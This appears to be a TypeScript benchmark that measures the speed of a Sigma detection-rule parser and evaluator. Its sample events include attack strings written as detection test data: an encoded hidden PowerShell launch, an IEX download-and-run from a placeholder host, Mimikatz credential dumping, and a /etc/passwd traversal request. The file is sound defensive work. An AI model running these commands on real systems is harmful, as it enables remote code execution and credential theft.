/**
 * Benchmark of lib/sigma over the SigmaHQ corpus (../shared/sigma or $DETECTORY_SHARED/sigma):
 * raw js-yaml `loadAll` files/s beside `parseSigmaFile` rules/s (YAML included) measured in the same run,
 * plus `buildMatchExpr` and evaluator rates. Run: `npx tsx bench/sigma.ts [rounds]`.
 */
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { loadAll } from "js-yaml";
import { buildMatchExpr, matchEvent, parseSigmaFile, type SigmaRule } from "../lib/sigma";

const shared = process.env.DETECTORY_SHARED ?? path.resolve(process.cwd(), "../shared");
const corpus = path.join(shared, "sigma");
const rounds = Number(process.argv[2] ?? 5);

function listYaml(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((e) => {
    const full = path.join(dir, e.name);
    return e.isDirectory() ? listYaml(full) : e.name.endsWith(".yml") ? [full] : [];
  });
}

/**
 * Measures several functions over the same data: three warm-up rounds each (the JIT needs them), then
 * `rounds` rounds interleaved so load from other processes hits all of them alike. Returns seconds per function.
 */
function timeAll(fns: Record<string, () => void>): Record<string, { best: number; median: number }> {
  for (const fn of Object.values(fns)) for (let i = 0; i < 3; i++) fn();
  const runs: Record<string, number[]> = Object.fromEntries(Object.keys(fns).map((k) => [k, []]));
  for (let i = 0; i < rounds; i++) {
    for (const [name, fn] of Object.entries(fns)) {
      const start = process.hrtime.bigint();
      fn();
      runs[name].push(Number(process.hrtime.bigint() - start) / 1e9);
    }
  }
  return Object.fromEntries(
    Object.entries(runs).map(([k, r]) => {
      r.sort((a, b) => a - b);
      return [k, { best: r[0], median: r[Math.floor(r.length / 2)] }];
    }),
  );
}

const texts = listYaml(corpus).map((f) => readFileSync(f, "utf8"));
const mb = texts.reduce((n, t) => n + t.length, 0) / 1e6;
console.log(`corpus: ${texts.length} files, ${mb.toFixed(1)} MB, 3 warm-up + ${rounds} measured rounds, interleaved (rates from the median round; best round in brackets)`);

let sink = 0;
let rules: SigmaRule[] = [];
const { yaml, parse, build } = timeAll({
  yaml: () => {
    for (const t of texts) sink += loadAll(t).length;
  },
  parse: () => {
    rules = [];
    for (const t of texts) for (const d of parseSigmaFile(t).documents) if (d.document?.kind === "rule") rules.push(d.document);
  },
  build: () => {
    for (const r of rules) sink += buildMatchExpr(r.detection).kind.length;
  },
});

const events: Record<string, unknown>[] = [
  { EventID: 1, Image: "C:\\Windows\\System32\\cmd.exe", CommandLine: "cmd.exe /c whoami /all", ParentImage: "C:\\Windows\\explorer.exe", User: "CORP\\alice", OriginalFileName: "Cmd.Exe" },
  { EventID: 1, Image: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", CommandLine: "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA", ParentImage: "C:\\Program Files\\Microsoft Office\\WINWORD.EXE" },
  { EventID: 13, TargetObject: "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater", Details: "C:\\Users\\Public\\updater.exe", Image: "C:\\Users\\Public\\updater.exe" },
  { EventID: 3, Image: "C:\\Windows\\System32\\rundll32.exe", DestinationIp: "10.1.2.3", DestinationPort: 443, Initiated: "true", DestinationHostname: "example.org" },
  { EventID: 11, TargetFilename: "C:\\Users\\bob\\AppData\\Local\\Temp\\payload.dll", Image: "C:\\Windows\\System32\\certutil.exe" },
  { eventType: "user.session.impersonation.grant", actor: { alternateId: "admin@corp.example" }, outcome: { result: "SUCCESS" } },
  { ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\nInvoke-Mimikatz -DumpCreds", EventID: 4104 },
  { c_uri: "/cgi-bin/../../etc/passwd", cs_method: "GET", c_useragent: "curl/8.0", sc_status: 200 },
];
const { evaluate: evalTime } = timeAll({
  evaluate: () => {
    for (const e of events) for (const r of rules) if (matchEvent(r, e).match) sink++;
  },
});

const rate = (n: number, s: number) => Math.round(n / s).toLocaleString("en-US");
const yamlRate = texts.length / yaml.median;
const parseRate = texts.length / parse.median;
console.log(`js-yaml loadAll            ${rate(texts.length, yaml.median)} files/s (best ${rate(texts.length, yaml.best)})`);
const ratioBest = (100 * yaml.best) / parse.best;
console.log(`parseSigmaFile (with YAML) ${rate(texts.length, parse.median)} files/s = ${rate(rules.length, parse.median)} rules/s (best ${rate(rules.length, parse.best)})`);
console.log(`  vs js-yaml: ${((100 * parseRate) / yamlRate).toFixed(0)}% of its rate by median round, ${ratioBest.toFixed(0)}% by best round (best is the steadier figure on a busy machine)`);
console.log(`buildMatchExpr             ${rate(rules.length, build.median)} rules/s`);
console.log(`matchEvent                 ${rate(events.length * rules.length, evalTime.median)} rule×event evaluations/s = ${rate(events.length, evalTime.median)} events/s against all ${rules.length} rules`);
if (sink === -1) console.log("");
